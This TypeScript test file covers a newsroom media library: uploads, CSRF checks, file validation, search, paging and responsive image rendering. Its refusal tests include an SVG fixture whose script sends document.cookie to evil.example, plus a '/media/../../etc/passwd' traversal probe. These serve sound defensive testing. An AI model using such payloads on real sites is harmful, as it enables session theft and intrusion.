/**
 * The media library over HTTP (inject()), on SQLite and PostgreSQL: uploads by every path a
 * browser takes (X-CSRF-Token header, _csrf field), the same file twice, a PNG named .jpg, and
 * each bad input (text named .jpg, SVG with a script, decompression bomb, truncated JPEG,
 * oversize, missing form token, signed out, expired session) refused with a stable code and
 * an Arabic message while what was stored stays byte for byte; search, pages and edits; the
 * files' URLs; reader pages with <picture>/srcset and the largest JPEG as the preview image.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { newsroomAccounts } from '../../src/newsroom/newsroom-accounts.ts';
import { openStore, type Store } from '../../src/store/store.ts';
import { buildApp } from '../../src/web/app.ts';
import { testConfig } from '../helpers/config.ts';
import { DIALECTS, freshDatabase } from '../helpers/databases.ts';
import { blankPng, photo } from '../helpers/images.ts';
import { corpusDrafts } from '../helpers/newsroom.ts';
import { importSampleNewspaper } from '../helpers/sample-newspaper.ts';
import { type MultipartPart, multipartBody } from './multipart.ts';
import { NewsroomClient } from './newsroom-client.ts';

const PASSWORD = 'كلمة سر غرفة الأخبار';
const CONTRIBUTOR = { email: 'contributor@alghad24.ma', displayName: 'هاجر الفاسي', role: 'contributor' } as const;
const MAX_BYTES = 3 * 1024 * 1024;
const JSON_ACCEPT = { accept: 'application/json' };
const ARABIC = /[\u0600-\u06ff]{3}/;
const SVG_WITH_SCRIPT =
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
  '<script type="text/javascript">fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>';

interface Images {
  jpeg: Buffer;
  png: Buffer;
  bomb: Buffer;
  truncated: Buffer;
}

let images: Images;
before(async () => {
  const jpeg = await photo(2400, 1600, 'jpeg', 1);
  images = {
    jpeg,
    png: await photo(900, 600, 'png', 2),
    bomb: await blankPng(10_000, 10_000),
    truncated: (await photo(1200, 800, 'jpeg', 3)).subarray(0, 40_000),
  };
});

function filePart(filename: string, data: Buffer, contentType = 'image/jpeg'): MultipartPart {
  return { name: 'file', filename, contentType, data };
}

/** Every file under the data directory's media folder with its SHA-256: what must not change. */
function storedFiles(dataDir: string): Map<string, string> {
  const root = path.join(dataDir, 'media');
  const files = new Map<string, string>();
  if (!fs.existsSync(root)) return files;
  for (const entry of fs.readdirSync(root, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const file = path.join(entry.parentPath, entry.name);
    files.set(path.relative(root, file), createHash('sha256').update(fs.readFileSync(file)).digest('hex'));
  }
  return files;
}

for (const dialect of DIALECTS) {
  describe(`media library over HTTP (${dialect})`, () => {
    let store: Store;
    let app: FastifyInstance;
    let dataDir: string;
    let cleanup: () => Promise<void>;
    let client: NewsroomClient;
    let first: { id: number; url: string; srcset: string; webpSrcset: string; width: number; height: number };

    before(async () => {
      const fresh = await freshDatabase(dialect);
      cleanup = fresh.cleanup;
      dataDir = fresh.options.dataDir;
      store = await openStore(fresh.options);
      await newsroomAccounts(store.db).accounts.create({ ...CONTRIBUTOR, password: PASSWORD });
      app = await buildApp({
        config: testConfig({ dataDir, pageCache: false, mediaMaxBytes: MAX_BYTES }),
        store,
        invalidationPollMs: 0,
      });
      client = new NewsroomClient(app);
      assert.equal((await client.signIn(CONTRIBUTOR.email, PASSWORD)).statusCode, 303);
    });
    after(async () => {
      await app?.close();
      await store?.close();
      await cleanup?.();
    });

    async function upload(parts: MultipartPart[], headers: Record<string, string> = {}) {
      await client.get('/newsroom/media');
      return client.postMultipart('/newsroom/media', multipartBody(parts), {
        ...JSON_ACCEPT,
        'x-csrf-token': client.lastToken,
        ...headers,
      });
    }

    it('shows the library with its drop zone to a contributor', async () => {
      const response = await client.get('/newsroom/media');
      assert.equal(response.statusCode, 200);
      assert.match(response.body, /مكتبة الصور/);
      assert.match(response.body, /enctype="multipart\/form-data"/);
      assert.match(response.body, /data-drop-zone/);
      assert.match(response.body, /<script src="\/newsroom\/assets\/media-library\.[0-9a-f]{10}\.js" defer/);
      assert.match(response.body, /لا توجد صور في المكتبة بعد/);
    });

    it('uploads a photo: JSON with the largest JPEG, both srcsets, files on disk, served immutable', async () => {
      const response = await upload([
        { name: 'alt', value: 'وزير الخارجية الأمريكي يصل إلى الرباط' },
        { name: 'credit', value: 'و.م.ع' },
        filePart('الرباط.jpg', images.jpeg),
      ]);
      assert.equal(response.statusCode, 201, response.body);
      const body = response.json();
      first = body;
      assert.equal(body.created, true);
      assert.equal(body.width, 1920);
      assert.equal(body.height, 1280);
      assert.equal(body.alt, 'وزير الخارجية الأمريكي يصل إلى الرباط');
      assert.equal(body.credit, 'و.م.ع');
      assert.equal(body.caption, null);
      assert.equal(body.originalName, 'الرباط.jpg');
      const hash = createHash('sha256').update(images.jpeg).digest('hex');
      assert.equal(body.url, `/media/${hash}/1920.jpg`);
      assert.equal(body.srcset, [320, 640, 960, 1280, 1920].map((w) => `/media/${hash}/${w}.jpg ${w}w`).join(', '));
      assert.match(body.webpSrcset, new RegExp(`^/media/${hash}/320\\.webp 320w, .*/1920\\.webp 1920w$`));
      assert.deepEqual(
        [...storedFiles(dataDir).keys()].sort(),
        [320, 640, 960, 1280, 1920]
          .flatMap((w) => [`${hash.slice(0, 2)}/${hash}/${w}.jpg`, `${hash.slice(0, 2)}/${hash}/${w}.webp`])
          .sort(),
      );

      const file = await app.inject({ url: body.url });
      assert.equal(file.statusCode, 200);
      assert.equal(file.headers['content-type'], 'image/jpeg');
      assert.equal(file.headers['cache-control'], 'public, max-age=31536000, immutable');
      const meta = await sharp(file.rawPayload).metadata();
      assert.deepEqual([meta.format, meta.width, meta.height, meta.exif], ['jpeg', 1920, 1280, undefined]);
      const webp = await app.inject({ url: `/media/${hash}/640.webp` });
      assert.equal(webp.headers['content-type'], 'image/webp');
      assert.equal((await sharp(webp.rawPayload).metadata()).width, 640);
      const again = await app.inject({ url: body.url, headers: { 'if-none-match': String(file.headers.etag) } });
      assert.equal(again.statusCode, 304);
      for (const missing of [
        `/media/${hash}/1000.jpg`,
        `/media/${hash}/1920.png`,
        '/media/../../etc/passwd',
        '/media/x',
      ]) {
        assert.equal((await app.inject({ url: missing })).statusCode, 404, missing);
      }
    });

    it('keeps one row for the same file uploaded twice, the second time with the form field token only', async () => {
      await client.get('/newsroom/media');
      const response = await client.postMultipart(
        '/newsroom/media',
        multipartBody([{ name: '_csrf', value: client.lastToken }, filePart('copy.jpg', images.jpeg)]),
        JSON_ACCEPT,
      );
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(response.json().id, first.id);
      assert.equal(response.json().created, false);
      assert.equal(response.json().alt, 'وزير الخارجية الأمريكي يصل إلى الرباط', 'the first description stays');
      const { count } = await store.db
        .selectFrom('media')
        .select((eb) => eb.fn.countAll<string | number>().as('count'))
        .executeTakeFirstOrThrow();
      assert.equal(Number(count), 1);
    });

    it('accepts a PNG named .jpg by its content, and a plain form post goes to the image page', async () => {
      await client.get('/newsroom/media');
      const response = await client.postMultipart(
        '/newsroom/media',
        multipartBody([{ name: '_csrf', value: client.lastToken }, filePart('screenshot.jpg', images.png)]),
        { accept: 'text/html' },
      );
      assert.equal(response.statusCode, 303, response.body);
      const location = String(response.headers.location);
      assert.match(location, /^\/newsroom\/media\/\d+\?done=uploaded$/);
      const page = await client.get(location);
      assert.match(page.body, /رُفعت الصورة/);
      assert.match(page.body, /screenshot\.jpg/);
      assert.match(page.body, /900×600/);
    });

    it('refuses bad files with a stable code and an Arabic message, and loses nothing already stored', async () => {
      const before = storedFiles(dataDir);
      const cases: [string, MultipartPart[], number, string, RegExp][] = [
        [
          'text named .jpg',
          [filePart('photo.jpg', Buffer.from('هذا ليس صورة بل نص عادي'))],
          415,
          'not_an_image',
          /ليس صورة/,
        ],
        [
          'SVG with a script',
          [filePart('logo.svg', Buffer.from(SVG_WITH_SCRIPT), 'image/svg+xml')],
          415,
          'svg_refused',
          /سكربت/,
        ],
        [
          'SVG named .png',
          [filePart('logo.png', Buffer.from(SVG_WITH_SCRIPT), 'image/png')],
          415,
          'svg_refused',
          /SVG/,
        ],
        ['decompression bomb', [filePart('bomb.png', images.bomb, 'image/png')], 422, 'too_many_pixels', /مليون بكسل/],
        ['truncated JPEG', [filePart('cut.jpg', images.truncated)], 422, 'image_damaged', /تالفة أو ناقصة/],
        ['an empty file', [filePart('empty.jpg', Buffer.alloc(0))], 400, 'file_missing', /لم يصل أي ملف/],
        ['no file at all', [{ name: 'alt', value: 'صورة' }], 400, 'file_missing', /لم يصل أي ملف/],
        [
          'a file just over the limit',
          [filePart('big.jpg', Buffer.concat([images.jpeg, Buffer.alloc(MAX_BYTES)]))],
          413,
          'file_too_large',
          /3 ميغابايت/,
        ],
        [
          'two files in one request',
          [filePart('one.png', images.png, 'image/png'), filePart('two.jpg', images.jpeg)],
          413,
          'too_many_parts',
          /صورة واحدة في كل طلب/,
        ],
        [
          'an alt text too long',
          [{ name: 'alt', value: 'ب'.repeat(501) }, filePart('p.png', images.png, 'image/png')],
          400,
          'field_too_long',
          /النص البديل/,
        ],
      ];
      for (const [label, parts, status, code, message] of cases) {
        const response = await upload(parts);
        assert.equal(response.statusCode, status, `${label}: ${response.body}`);
        const { error } = response.json();
        assert.equal(error.code, code, label);
        assert.match(error.messageAr, message, label);
        assert.match(error.messageAr, ARABIC, label);
        assert.ok(error.message.length > 0, label);
      }
      // The same refusals reach a person using the plain form as an Arabic library page.
      const page = await upload([filePart('logo.svg', Buffer.from(SVG_WITH_SCRIPT))], { accept: 'text/html' });
      assert.equal(page.statusCode, 415);
      assert.match(page.body, /role="alert"[^>]*>[^<]*SVG/);
      assert.deepEqual(storedFiles(dataDir), before);
      const media = await store.media.list({});
      assert.equal(media.total, 2);
    });

    it('refuses an upload without the form token, signed out or with an ended session', async () => {
      const before = storedFiles(dataDir);
      const body = multipartBody([filePart('new.png', await photo(300, 200, 'png', 9), 'image/png')]);
      const noToken = await client.postMultipart('/newsroom/media', body, JSON_ACCEPT);
      assert.equal(noToken.statusCode, 403);
      assert.equal(noToken.json().error.code, 'csrf_refused');
      assert.match(noToken.json().error.messageAr, /أعد تحميل الصفحة/);
      const noTokenPage = await client.postMultipart('/newsroom/media', body, { accept: 'text/html' });
      assert.equal(noTokenPage.statusCode, 403);
      assert.match(noTokenPage.body, /نموذج غير مقبول/);
      const wrongToken = await client.postMultipart(
        '/newsroom/media',
        multipartBody([
          { name: '_csrf', value: 'forged' },
          filePart('new.png', await photo(300, 200, 'png', 9), 'image/png'),
        ]),
        JSON_ACCEPT,
      );
      assert.equal(wrongToken.json().error.code, 'csrf_refused');

      const stranger = new NewsroomClient(app);
      const signedOut = await stranger.postMultipart('/newsroom/media', body, JSON_ACCEPT);
      assert.equal(signedOut.statusCode, 401);
      assert.equal(signedOut.json().error.code, 'not_signed_in');
      const ended = new NewsroomClient(app);
      ended.cookies.set('ghad_session', 'a-session-that-ended');
      const expired = await ended.postMultipart('/newsroom/media', body, JSON_ACCEPT);
      assert.equal(expired.statusCode, 401);
      assert.equal(expired.json().error.code, 'session_expired');
      assert.match(expired.json().error.messageAr, /انتهت جلستك/);
      const page = await stranger.get('/newsroom/media');
      assert.equal(page.statusCode, 303);
      assert.match(String(page.headers.location), /^\/newsroom\/sign-in\?next=%2Fnewsroom%2Fmedia/);
      assert.equal((await stranger.get('/newsroom/media.json')).statusCode, 401);
      assert.deepEqual(storedFiles(dataDir), before);
      assert.equal((await store.media.list({})).total, 2);
    });

    it('edits alt text, caption and credit, and finds images by them and by file name, Arabic letters folded', async () => {
      await client.get(`/newsroom/media/${first.id}`);
      const saved = await client.post(`/newsroom/media/${first.id}`, {
        alt: 'وزير الخارجية الأمريكي أنتوني بلينكن في مطار الرباط سلا',
        caption: 'لحظة وصوله صباح الثلاثاء',
        credit: 'و.م.ع / Hassan Ouazzani',
      });
      assert.equal(saved.statusCode, 303, saved.body);
      assert.equal(saved.headers.location, `/newsroom/media/${first.id}?done=saved`);
      const page = await client.get(String(saved.headers.location));
      assert.match(page.body, /حُفظ وصف الصورة/);
      assert.match(page.body, /لحظة وصوله صباح الثلاثاء/);

      const search = async (q: string) =>
        (await client.get(`/newsroom/media.json?q=${encodeURIComponent(q)}`)).json() as {
          items: { id: number }[];
          total: number;
        };
      assert.deepEqual(
        (await search('الامريكي انتوني')).items.map((i) => i.id),
        [first.id],
        'hamza folded',
      );
      assert.deepEqual(
        (await search('ouazzani')).items.map((i) => i.id),
        [first.id],
        'credit, any case',
      );
      assert.deepEqual(
        (await search('الرباط.jpg')).items.map((i) => i.id),
        [first.id],
        'file name',
      );
      assert.equal((await search('screenshot')).total, 1);
      assert.equal((await search('100%_')).total, 0, 'LIKE wildcards are taken literally');
      assert.equal((await search('')).total, 2);
      const html = await client.get('/newsroom/media?q=%D9%84%D8%A7%20%D8%B4%D9%8A%D8%A1');
      assert.match(html.body, /لا توجد صورة تطابق هذا البحث/);

      await client.get(`/newsroom/media/${first.id}`);
      const json = await client.post(
        `/newsroom/media/${first.id}`,
        { alt: 'بلينكن في الرباط', caption: '', credit: '' },
        JSON_ACCEPT,
      );
      assert.equal(json.statusCode, 200);
      assert.deepEqual([json.json().alt, json.json().caption, json.json().credit], ['بلينكن في الرباط', null, null]);
      await client.get(`/newsroom/media/${first.id}`);
      const tooLong = await client.post(`/newsroom/media/${first.id}`, { alt: 'ا'.repeat(501) });
      assert.equal(tooLong.statusCode, 400);
      assert.match(tooLong.body, /النص البديل أطول من 500 حرفا/);
      assert.equal((await store.media.findById(first.id))?.alt, 'بلينكن في الرباط', 'a refused edit changes nothing');
      const one = await client.get(`/newsroom/media/${first.id}`, JSON_ACCEPT);
      assert.equal(one.json().alt, 'بلينكن في الرباط');
      assert.equal(one.json().url, first.url);
      const unknown = await client.get('/newsroom/media/999999');
      assert.equal(unknown.statusCode, 404);
      assert.match(unknown.body, /هذه الصورة غير موجودة في المكتبة/);
      const unknownJson = await client.get('/newsroom/media/999999', JSON_ACCEPT);
      assert.equal(unknownJson.json().error.code, 'media_not_found');
    });

    it('pages the library 24 at a time, newest first, in the page and in the JSON', async () => {
      for (let seed = 100; seed < 124; seed++) {
        const response = await upload([filePart(`small-${seed}.png`, await photo(40, 30, 'png', seed), 'image/png')]);
        assert.equal(response.statusCode, 201, response.body);
      }
      const one = (await client.get('/newsroom/media.json')).json();
      assert.equal(one.total, 26);
      assert.equal(one.pages, 2);
      assert.equal(one.items.length, 24);
      assert.equal(one.items[0].originalName, 'small-123.png');
      const two = (await client.get('/newsroom/media.json?page=2')).json();
      assert.deepEqual(
        two.items.map((i: { originalName: string }) => i.originalName),
        ['screenshot.jpg', 'الرباط.jpg'],
        'the two first uploads, oldest last',
      );
      const page = await client.get('/newsroom/media?page=2');
      assert.match(page.body, /الصفحة ٢ من ٢|الصفحة 2 من 2/);
      assert.match(page.body, /rel="prev"/);
      assert.equal((await client.get('/newsroom/media.json?page=abc')).json().page, 1);
    });

    it('shows an uploaded featured image and body image as <picture> with srcset on the reader page', async () => {
      const [withImage, without] = await importSampleNewspaper(store, { dated: 2, undated: 0, recent: 0 });
      assert.ok(withImage && without);
      const article = await store.db
        .selectFrom('articles')
        .select('body')
        .where('id', '=', withImage)
        .executeTakeFirstOrThrow();
      const body = JSON.parse(article.body);
      body.splice(1, 0, { type: 'image', mediaId: first.id, src: first.url, alt: 'بلينكن يصافح نظيره المغربي' });
      await store.db
        .updateTable('articles')
        .set({ featured_media_id: first.id, body: JSON.stringify(body) })
        .where('id', '=', withImage)
        .execute();
      const page = await app.inject({ url: `/article/${withImage}` });
      const html = (await app.inject({ url: String(page.headers.location) })).body;
      const hash = first.url.split('/')[2];
      const featured = /<figure class="featured"><picture>(.*?)<\/picture>/.exec(html)?.[1] ?? '';
      assert.match(featured, new RegExp(`<source type="image/webp" srcset="/media/${hash}/320\\.webp 320w, `));
      assert.match(
        featured,
        /<img src="\/media\/[0-9a-f]{64}\/1920\.jpg" alt="بلينكن في الرباط" width="1920" height="1280" srcset="[^"]+1920\.jpg 1920w" sizes="\(min-width: 44rem\) 42rem, calc\(100vw - 2rem\)"/,
      );
      assert.doesNotMatch(featured, /loading="lazy"/, 'the featured image is above the fold');
      const bodyImage = /<div class="article__body">.*?<picture>(.*?)<\/picture>/s.exec(html)?.[1] ?? '';
      assert.match(bodyImage, /alt="بلينكن يصافح نظيره المغربي"/);
      assert.match(bodyImage, /width="1920" height="1280"/);
      assert.match(bodyImage, /loading="lazy"/);
      const largest = `https://alghad24.test/media/${hash}/1920.jpg`;
      assert.match(html, new RegExp(`<meta property="og:image" content="${largest}"`));
      assert.match(html, new RegExp(`<meta name="twitter:image" content="${largest}"`));
      const jsonLd = [...html.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs)].map((m) =>
        JSON.parse(m[1] as string),
      );
      const newsArticle = jsonLd.flat().find((d) => d['@type'] === 'NewsArticle');
      assert.equal(newsArticle.image[0].url, largest);

      // An imported article without any library image renders as before.
      const plain = await app.inject({ url: `/article/${without}` });
      const plainPage = await app.inject({ url: String(plain.headers.location) });
      assert.equal(plainPage.statusCode, 200);
      assert.doesNotMatch(plainPage.body, /<picture>/);
    });

    it('names the library image a body image was typed as (its /media/ address), so readers get every width (issue 17)', async () => {
      const [draft] = corpusDrafts(1);
      assert.ok(draft);
      const hash = first.url.split('/')[2] as string;
      const typed = { type: 'image', src: `/media/${hash}/640.jpg`, alt: 'الوزير في الرباط', caption: 'كتبه المحرر' };
      const outside = { type: 'image', src: 'https://images.example.org/souk.jpg', alt: 'صورة من خارج المكتبة' };
      const nowhere = { type: 'image', src: `/media/${'0'.repeat(64)}/640.jpg`, alt: 'عنوان لا يسمي صورة' };
      await client.get('/newsroom/articles/new');
      const created = await client.sendJson('POST', '/newsroom/articles', {
        ...draft,
        body: [draft.body[0], typed, outside, nowhere, ...draft.body.slice(1)],
      });
      assert.equal(created.statusCode, 201, created.body);
      const { id } = created.json().article as { id: number };
      const storedImages = async () =>
        (await store.articles.findById(id, { publishedOnly: false }))?.body.filter((b) => b.type === 'image');
      assert.deepEqual(await storedImages(), [{ ...typed, mediaId: first.id }, outside, nowhere]);

      // A save (PUT) names it too: the WebP address of another width, and a `mediaId: null` sent by a client.
      const webp = { type: 'image', src: `/media/${hash}/320.webp`, alt: 'الصورة نفسها', mediaId: null };
      const saved = await client.sendJson('PUT', `/newsroom/articles/${id}`, {
        baseRevision: 1,
        draft: { ...draft, body: [draft.body[0], typed, webp, outside, ...draft.body.slice(1)] },
      });
      assert.equal(saved.statusCode, 200, saved.body);
      assert.deepEqual(await storedImages(), [
        { ...typed, mediaId: first.id },
        { ...webp, mediaId: first.id },
        outside,
      ]);

      // As readers will see it: a <picture> with every WebP and JPEG width, the editor's own text.
      const preview = await client.get(`/newsroom/articles/${id}/preview`);
      assert.equal(preview.statusCode, 200);
      const articleBody = /<div class="article__body">(.*?)<\/div>/s.exec(preview.body)?.[1] ?? '';
      const pictures = [...articleBody.matchAll(/<picture>(.*?)<\/picture>/gs)].map((m) => m[1] as string);
      assert.equal(pictures.length, 2, articleBody);
      const [picture] = pictures as [string];
      assert.match(
        picture,
        new RegExp(
          `<source type="image/webp" srcset="/media/${hash}/320\\.webp 320w, [^"]*/media/${hash}/1920\\.webp 1920w"`,
        ),
      );
      assert.match(
        picture,
        new RegExp(
          `<img src="/media/${hash}/1920\\.jpg" alt="الوزير في الرباط" width="1920" height="1280" srcset="/media/${hash}/320\\.jpg 320w, `,
        ),
      );
      assert.match(articleBody, /<figcaption>[^<]*كتبه المحرر/);
      assert.match(articleBody, /<img src="https:\/\/images\.example\.org\/souk\.jpg" alt="صورة من خارج المكتبة"/);
      assert.doesNotMatch(articleBody, /<picture><source[^>]*><img src="https:\/\/images/);
    });

    it('shows and serves the rows an import wrote: a copied file as a plain <img>, a URL as that URL', async () => {
      // A WordPress import's copy (src/import/uploads-folder.ts): one file, no variants.
      const copiedBytes = await photo(640, 427, 'jpeg', 7);
      const copiedHash = createHash('sha256').update(copiedBytes).digest('hex');
      const copiedPath = `${copiedHash.slice(0, 2)}/${copiedHash}.jpg`;
      fs.mkdirSync(path.join(dataDir, 'media', copiedHash.slice(0, 2)), { recursive: true });
      fs.writeFileSync(path.join(dataDir, 'media', copiedPath), copiedBytes);
      const copied = await store.media.save({
        hash: copiedHash,
        path: copiedPath,
        mimeType: 'image/jpeg',
        width: 640,
        height: 427,
        bytes: copiedBytes.length,
        alt: 'مرفأ الصيد في الصويرة',
        caption: 'قوارب الصيد عند الفجر',
        credit: null,
      });
      const linked = await store.media.save({
        hash: createHash('sha256')
          .update('url:https://old.alghad24.ma/wp-content/uploads/2019/03/souk.jpg')
          .digest('hex'),
        path: 'https://old.alghad24.ma/wp-content/uploads/2019/03/souk.jpg',
        mimeType: 'image/jpeg',
        width: null,
        height: null,
        bytes: 0,
        alt: 'سوق الخضر في مكناس',
        caption: null,
        credit: null,
      });

      const target = await store.db
        .selectFrom('articles')
        .select(['id', 'body'])
        .where('status', '=', 'published')
        .where('featured_media_id', 'is', null)
        .orderBy('id')
        .executeTakeFirstOrThrow();
      const body = JSON.parse(target.body);
      body.splice(1, 0, { type: 'image', mediaId: linked, src: 'https://old.alghad24.ma/x.jpg', alt: '' });
      await store.db
        .updateTable('articles')
        .set({ featured_media_id: copied, body: JSON.stringify(body) })
        .where('id', '=', target.id)
        .execute();
      const redirect = await app.inject({ url: `/article/${target.id}` });
      const html = (await app.inject({ url: String(redirect.headers.location) })).body;
      assert.match(
        html,
        new RegExp(
          `<figure class="featured"><img src="/media/${copiedPath}" alt="مرفأ الصيد في الصويرة" width="640" height="427"`,
        ),
      );
      const articleBody = /<div class="article__body">(.*?)<\/div>/s.exec(html)?.[1] ?? '';
      assert.match(
        articleBody,
        /<img src="https:\/\/old\.alghad24\.ma\/wp-content\/uploads\/2019\/03\/souk\.jpg" alt="سوق الخضر في مكناس"/,
      );
      assert.doesNotMatch(articleBody, /<picture>/, 'rows without variants are one plain image');
      assert.match(html, new RegExp(`<meta property="og:image" content="https://alghad24.test/media/${copiedPath}"`));

      // One route serves both layouts: the copy as it was, the library's variants.
      const served = await app.inject(`/media/${copiedPath}`);
      assert.equal(served.statusCode, 200);
      assert.equal(served.headers['content-type'], 'image/jpeg');
      assert.match(String(served.headers['cache-control']), /immutable/);
      assert.deepEqual(served.rawPayload, copiedBytes);
      assert.equal((await app.inject(first.url)).statusCode, 200);
      const wrongFolder = `${copiedHash.slice(2, 4) === copiedHash.slice(0, 2) ? 'zz' : copiedHash.slice(2, 4)}/${copiedHash}.jpg`;
      assert.equal((await app.inject(`/media/${wrongFolder}`)).statusCode, 404);
      assert.equal((await app.inject(`/media/${copiedHash.slice(0, 2)}/${copiedHash}.exe`)).statusCode, 404);

      // The library lists them too, each at its own address.
      const listed = (await client.get('/newsroom/media.json?q=%D8%B5%D9%88%D9%8A%D8%B1%D8%A9', JSON_ACCEPT)).json();
      assert.equal(listed.total, 1, "an import's row is searchable by its alt text (الصويرة)");
      assert.equal(listed.items[0].url, `/media/${copiedPath}`);
      assert.equal(listed.items[0].thumbnail, `/media/${copiedPath}`);
      const linkedJson = (await client.get(`/newsroom/media/${linked}`, JSON_ACCEPT)).json();
      assert.equal(linkedJson.url, 'https://old.alghad24.ma/wp-content/uploads/2019/03/souk.jpg');

      // An import that meets a file already uploaded keeps the library's row: its variants and its text.
      const uploaded = await store.media.findById(first.id);
      assert.ok(uploaded);
      const again = await store.media.save({
        hash: uploaded.hash,
        path: `${uploaded.hash.slice(0, 2)}/${uploaded.hash}.jpg`,
        mimeType: 'image/jpeg',
        width: 2400,
        height: 1600,
        bytes: 1,
        alt: 'نص من ووردبريس',
        caption: null,
        credit: null,
      });
      assert.equal(again, first.id);
      assert.deepEqual(await store.media.findById(first.id), uploaded);
    });
  });
}

describe('uploads per user are limited (issue 17)', () => {
  let store: Store;
  let app: FastifyInstance;
  let cleanup: () => Promise<void>;
  const EDITOR = { email: 'editor@alghad24.ma', displayName: 'سلمى بناني', role: 'editor' } as const;

  before(async () => {
    const fresh = await freshDatabase('sqlite');
    cleanup = fresh.cleanup;
    store = await openStore(fresh.options);
    const { accounts } = newsroomAccounts(store.db);
    await accounts.create({ ...CONTRIBUTOR, password: PASSWORD });
    await accounts.create({ ...EDITOR, password: PASSWORD });
    app = await buildApp({
      config: testConfig({ dataDir: fresh.options.dataDir, pageCache: false, mediaMaxBytes: MAX_BYTES }),
      store,
      invalidationPollMs: 0,
      newsroom: { mediaUploadLimit: { max: 2, windowMs: 60_000 } },
    });
  });
  after(async () => {
    await app?.close();
    await store?.close();
    await cleanup?.();
  });

  it('answers 429 with Retry-After and an Arabic message past the limit, for that user only', async () => {
    const contributor = new NewsroomClient(app);
    assert.equal((await contributor.signIn(CONTRIBUTOR.email, PASSWORD)).statusCode, 303);
    await contributor.get('/newsroom/media');
    const send = (client: NewsroomClient, seed: number, headers: Record<string, string> = JSON_ACCEPT) =>
      client.postMultipart(
        '/newsroom/media',
        multipartBody([filePart(`p${seed}.png`, tiny[seed] as Buffer, 'image/png')]),
        { 'x-csrf-token': client.lastToken, ...headers },
      );
    const tiny = await Promise.all([0, 1, 2, 3, 4].map((seed) => photo(40, 30, 'png', 100 + seed)));
    assert.equal((await send(contributor, 0)).statusCode, 201);
    assert.equal((await send(contributor, 1)).statusCode, 201);
    const refused = await send(contributor, 2);
    assert.equal(refused.statusCode, 429, refused.body);
    assert.ok(Number(refused.headers['retry-after']) > 0, String(refused.headers['retry-after']));
    assert.equal(refused.json().error.code, 'too_many_uploads');
    assert.match(refused.json().error.messageAr, /رفعت صورا كثيرة في وقت قصير/);
    const page = await send(contributor, 3, {});
    assert.equal(page.statusCode, 429, 'the library page says it too');
    assert.match(page.body, /رفعت صورا كثيرة في وقت قصير/);
    assert.ok(page.headers['retry-after']);
    assert.equal((await store.media.list({ query: '', page: 1, perPage: 24 })).total, 2, 'nothing more was stored');

    const editor = new NewsroomClient(app);
    assert.equal((await editor.signIn(EDITOR.email, PASSWORD)).statusCode, 303);
    await editor.get('/newsroom/media');
    assert.equal((await send(editor, 4)).statusCode, 201, 'another user has their own allowance');
  });
});
